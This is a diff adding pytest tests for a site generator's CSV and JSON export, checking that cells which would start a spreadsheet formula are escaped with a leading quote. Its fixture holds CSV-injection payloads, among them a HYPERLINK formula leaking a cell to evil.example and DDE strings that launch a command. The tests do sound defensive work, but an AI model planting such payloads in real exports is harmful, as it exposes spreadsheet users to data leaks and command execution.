@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import dataclasses
+import html
 import io
 import json
 from pathlib import Path
@@ -13,10 +14,19 @@ from typing import Any
 import frictionless
 import jsonschema
 import pytest
+import yaml
 from referencing import Registry, Resource
 
 from generator.build import BuildResult
-from generator.export import COLUMNS, DATA_DIR, EXPORT_SCHEMA, export_files, table_schema
+from generator.export import (
+    COLUMNS,
+    DATA_DIR,
+    EXPORT_SCHEMA,
+    FORMULA_NOTE,
+    export_files,
+    spreadsheet_cell,
+    table_schema,
+)
 from generator.model import CaseStudy, Ending
 from generator.paths import CASE_STUDY_SCHEMA, collect_files
 from generator.validate import validate_files
@@ -246,3 +256,69 @@ def test_built_site_publishes_valid_open_data(built_site: tuple[Path, BuildResul
     assert frictionless_errors(data / "datapackage.json") == []
     document, validator = record_validator(data)
     assert all(problems(validator, record) == [] for record in document["case_studies"])
+    assert FORMULA_NOTE in html.unescape((data / "index.html").read_text("utf-8"))
+
+
+# Cells a spreadsheet would run (OWASP, "CSV Injection"), each put into one text column.
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "place": "+SUM(1,2)",
+    "region": "-2+3+cmd|' /C calc'!A0",
+    "summary": "@SUM(1+1)*cmd|' /C calc'!A0 and enough words to make a summary.",
+}
+
+
+def test_formulas_are_text_in_the_csv_and_exact_in_the_json(tmp_path: Path) -> None:
+    document = yaml.safe_load((SAMPLE / "riverton.yaml").read_text("utf-8"))
+    document["title"] = FORMULAS["title"]
+    document["place"].update(name=FORMULAS["place"], region=FORMULAS["region"])
+    document["summary"] = FORMULAS["summary"]
+    folder = tmp_path / "case_studies"
+    folder.mkdir()
+    (folder / "riverton.yaml").write_text(json.dumps(document), "utf-8")  # JSON is YAML
+    result = validate_files(collect_files([folder]))
+    assert result.problems == [], [problem.format_text() for problem in result.problems]
+
+    data = publish(result.case_studies, tmp_path / "site")
+    with (data / "case-studies.csv").open(encoding="utf-8", newline="") as file:
+        [row] = list(csv.DictReader(file))
+    assert {column: row[column] for column in FORMULAS} == {
+        column: "'" + text for column, text in FORMULAS.items()
+    }
+    assert (row["lat"], row["lon"]) == ("53.5", "-2.25")  # numbers stay numbers
+    [record] = json.loads((data / "case-studies.json").read_text("utf-8"))["case_studies"]
+    exact = (record["title"], record["place"]["name"], record["place"]["region"])
+    assert (*exact, record["summary"]) == tuple(FORMULAS.values())
+    assert frictionless_errors(data / "datapackage.json") == []
+    package = json.loads((data / "datapackage.json").read_text("utf-8"))
+    assert FORMULA_NOTE in package["description"]
+    assert FORMULA_NOTE in package["resources"][0]["description"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        "+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "  =1+1",
+        "\u3000=1+1",  # an ideographic space first
+        "\uff1d1+1",  # full-width =
+        "\uff0b1",
+        "\uff0d1",
+        "\uff20SUM(A1)",
+    ],
+)
+def test_a_cell_that_would_start_a_formula_starts_with_a_quote(text: str) -> None:
+    assert spreadsheet_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "value", ["Preston", "O'Brien's co-op", "Mid-Wales", "", "1 = 1", -2.25, 0]
+)
+def test_other_cells_are_left_as_they_are(value: object) -> None:
+    assert spreadsheet_cell(value) == value
